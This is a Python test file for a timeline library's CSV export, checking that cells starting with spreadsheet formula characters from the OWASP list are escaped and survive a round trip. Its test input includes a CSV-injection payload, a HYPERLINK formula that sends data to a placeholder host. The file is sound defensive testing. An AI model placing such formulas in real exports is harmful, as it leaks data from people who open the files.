"""Hostile input at the public entry points, each against an outside rule or a round trip.

CSV cells a spreadsheet would run (the OWASP list, full-width forms and line feed
included); huge integers given where a record or an event takes text or a number.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from timeline import Event, Source, Timeline
from timeline.formats import _csv

# The characters with which a spreadsheet starts a formula, per the OWASP Web Security
# Testing Guide ("Testing for CSV Injection"): = + - @, tab, carriage return, line feed, and
# their full-width (double-byte) forms, which Excel in East Asian locales also reads so.
_OWASP = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def _cells(text: str) -> list[list[str]]:
    """The cells of CSV text as a spreadsheet's reader sees them (the csv module)."""
    return list(csv.reader(io.StringIO(text, newline="")))


class TestCsvFormulaCharacters:
    @pytest.mark.parametrize("first", _OWASP)
    def test_every_owasp_trigger_is_escaped_and_read_back(self, first: str) -> None:
        text = first + 'HYPERLINK("http://example.invalid/?leak=1")'
        out = _csv.write({"events": [{"title": "T", "when": "2026", "description": text}]})
        row = dict(zip(*_cells(out)[:2], strict=True))
        assert row["description"] == "'" + text  # shown as text by the spreadsheet
        data, _ = _csv.read(out)
        assert data["events"][0]["description"] == text

    @given(
        first=st.sampled_from(_OWASP),
        rest=st.text(st.characters(exclude_categories=["Cs"]), max_size=12),
        field=st.sampled_from(["title", "actor", "tag", "source"]),
    )
    @settings(max_examples=60, deadline=None)
    def test_no_written_cell_starts_a_formula(self, first: str, rest: str, field: str) -> None:
        text = first + "x" + rest
        event = Event(
            id="e",
            title=text if field == "title" else "T",
            when="2026",
            actors=[text] if field == "actor" else [],
            tags=[text] if field == "tag" else [],
            sources=[Source(text)] if field == "source" else [],
        )
        tl = Timeline([event])
        from timeline.formats import _io

        out = _io.dumps(tl, "csv")
        for row in _cells(out)[1:]:
            for cell in row:
                assert not cell.startswith(tuple(_OWASP)), cell
        assert _io.loads(out, "csv") == tl

    def test_a_file_written_before_reads_the_same(self, tmp_path: Path) -> None:
        # A full-width sign written bare (as earlier versions wrote it) reads as it is.
        path = tmp_path / "old.csv"
        path.write_text("title,when\n\uff1dSUM(1),2026\n", encoding="utf-8")
        assert Timeline.load(path)[0].title == "\uff1dSUM(1)"
